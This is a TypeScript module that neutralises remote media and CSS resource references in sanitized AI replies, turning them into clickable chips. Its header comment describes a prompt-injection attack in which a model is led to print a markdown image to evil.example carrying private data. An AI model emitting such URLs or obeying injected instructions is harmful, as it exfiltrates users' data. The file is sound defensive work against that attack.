/**
 * Nothing in a reply may load by itself: a prompt injection in a mail or file the model read can
 * make it print `![](https://evil.example/?d=<private data>)`, and the browser would send the
 * data the moment the image is shown. So, on the sanitized tree (still in DOMPurify's inert
 * document, where nothing is fetched), every image, picture, video, audio and SVG image whose
 * sources are not the app's own becomes a chip: "image from evil.example", a link the person
 * may open in a new tab. Attribute values that could name a resource for CSS (SVG `fill` and
 * friends) lose it. The Content-Security-Policy (img-src) is the second wall behind this one.
 */

const SVG_NS = 'http://www.w3.org/2000/svg';

/** Where the app serves attachments; the only same-origin images a reply shows inline. */
const ATTACHMENTS_PATH = '/api/attachments/';

/** Elements that fetch what they show; their descendants (`<source>`, `<track>`, `<img>`) go with them. */
const MEDIA: Record<string, MediaKind> = {
	picture: 'image',
	img: 'image',
	image: 'image',
	feimage: 'image',
	video: 'video',
	audio: 'audio',
	source: 'image',
	track: 'video'
};
type MediaKind = 'image' | 'video' | 'audio';

/** Attributes that hold text for people, never a resource. */
const isText = (name: string) => name === 'alt' || name === 'title' || name.startsWith('aria-');

/**
 * What CSS would read as a resource: `url(`, `image-set(`, `image(`, `src(`, a `//` (scheme or
 * host) or a backslash (a CSS escape can spell any of these).
 */
const CSS_RESOURCE = /url\s*\(|image(-set)?\s*\(|src\s*\(|\/\/|\\/i;
/** `url(#gradient)`: a reference inside the same SVG, which loads nothing. */
const LOCAL_REFERENCE = /^\s*url\(\s*(['"]?)#[\w-]*\1\s*\)\s*$/i;

/** The URLs in a `srcset`: each candidate's URL is its first run of non-space characters. */
export function srcsetUrls(srcset: string): string[] {
	const urls: string[] = [];
	let i = 0;
	while (i < srcset.length) {
		while (i < srcset.length && /[\s,]/.test(srcset[i])) i++;
		const start = i;
		while (i < srcset.length && !/\s/.test(srcset[i])) i++;
		const url = srcset.slice(start, i);
		if (url.endsWith(',')) {
			urls.push(url.replace(/,+$/, ''));
			continue;
		}
		if (url) urls.push(url);
		// Descriptors up to the next comma outside parentheses.
		let depth = 0;
		for (; i < srcset.length; i++) {
			const c = srcset[i];
			if (c === '(') depth++;
			else if (c === ')') depth--;
			else if (c === ',' && depth <= 0) break;
		}
	}
	return urls.filter(Boolean);
}

/** The resource URLs an element itself names (not its descendants'). */
function resourceUrls(element: Element): string[] {
	const urls: string[] = [];
	for (const name of ['src', 'poster', 'href', 'xlink:href']) {
		const value = element.getAttribute(name);
		if (value !== null && value.trim() !== '') urls.push(value.trim());
	}
	const srcset = element.getAttribute('srcset');
	if (srcset) urls.push(...srcsetUrls(srcset));
	return urls;
}

/**
 * Whether `raw` may be shown inline: a `data:` URL (no network), or the app's own attachments
 * (and blob: URLs the page made itself). Every other same-origin URL is refused too: a GET such
 * as /logout or the OAuth start has effects, and no reply needs the app's other resources.
 */
export function isInlineSource(raw: string, origin: string): boolean {
	const url = parse(raw, origin);
	if (!url) return false;
	if (url.protocol === 'data:') return true;
	if (url.origin !== origin) return false;
	return url.protocol === 'blob:' || url.pathname.startsWith(ATTACHMENTS_PATH);
}

function parse(raw: string, origin: string): URL | undefined {
	try {
		return new URL(raw, `${origin}/`);
	} catch {
		return undefined;
	}
}

function isSvg(element: Element): boolean {
	return element.namespaceURI === SVG_NS;
}

/** The chip that stands for a resource that was not loaded: a link to it, or text inside a link. */
function chip(document: Document, url: URL | undefined, kind: MediaKind, asLink: boolean): Element {
	const host = url?.host || 'another site';
	const chip = document.createElement(asLink && url ? 'a' : 'span');
	chip.className = 'remote-media';
	if (asLink && url) {
		chip.setAttribute('href', url.href);
		chip.setAttribute('target', '_blank');
		chip.setAttribute('rel', 'noopener noreferrer nofollow');
	}
	if (url) chip.setAttribute('title', `Not loaded: ${url.href}`);
	const icon = document.createElementNS(SVG_NS, 'svg');
	icon.setAttribute('class', 'remote-media-icon');
	icon.setAttribute('viewBox', '0 0 24 24');
	icon.setAttribute('aria-hidden', 'true');
	const path = document.createElementNS(SVG_NS, 'path');
	path.setAttribute(
		'd',
		kind === 'image'
			? 'M4 5h16v14H4zM4 16l4.5-4.5 3.5 3.5 2.5-2.5L20 18M15.5 9.5h.01'
			: 'M4 5h16v14H4zM10 9v6l5-3z'
	);
	icon.append(path);
	chip.append(icon, document.createTextNode(`${kind} from ${host}`));
	return chip;
}

/**
 * Replaces every media element of `root` that would load something from elsewhere with a chip,
 * and drops attribute values that could make CSS fetch. `origin` is the app's own
 * (location.origin). Works in place; `root` must live in an inert document.
 */
export function replaceRemoteMedia(root: Element, origin: string): void {
	const document = root.ownerDocument;
	const after = new Map<Element, Element>();
	for (const element of root.querySelectorAll('*')) {
		if (!root.contains(element)) continue; // inside a media element already replaced
		const name = element.localName.toLowerCase();
		const kind = MEDIA[name];
		if (kind) {
			const urls = [element, ...element.querySelectorAll('*')].flatMap(resourceUrls);
			const remote = urls.find((url) => !isInlineSource(url, origin));
			if (remote === undefined) {
				// Shown inline. srcset is checked above but never kept: the browser's reading of it
				// is the one that counts, and a data: or attachment image needs only its src.
				for (const inner of [element, ...element.querySelectorAll('*')])
					inner.removeAttribute('srcset');
				continue;
			}
			const url = parse(remote, origin);
			const web = url && /^https?:$/.test(url.protocol) ? url : undefined;
			const replacement = chip(document, web, kind, !element.parentElement?.closest('a, button'));
			// Inside an SVG the chip would be parsed as SVG: it goes after the outermost <svg>.
			let svg: Element | null = null;
			for (let up = element.parentElement; up && isSvg(up); up = up.parentElement)
				if (up.localName === 'svg') svg = up;
			if (svg) {
				(after.get(svg) ?? svg).after(replacement);
				after.set(svg, replacement);
				element.remove();
			} else {
				element.replaceWith(replacement);
			}
			continue;
		}
		scrubAttributes(element);
	}
}

/** Removes attribute values that would fetch through CSS or an SVG reference. */
function scrubAttributes(element: Element): void {
	const link = element.localName === 'a' || element.localName === 'area';
	for (const { name, value } of [...element.attributes]) {
		if (isText(name)) continue;
		if (name === 'href' || name === 'xlink:href') {
			// A link is followed only on a click; any other SVG href (gradients, textPath, …) may
			// only point inside the same SVG.
			if (!link && !value.trim().startsWith('#')) element.removeAttribute(name);
			continue;
		}
		if (name === 'src' || name === 'srcset' || name === 'poster') {
			element.removeAttribute(name); // on an element that is not media: nothing to show
			continue;
		}
		if (CSS_RESOURCE.test(value) && !LOCAL_REFERENCE.test(value)) element.removeAttribute(name);
	}
}
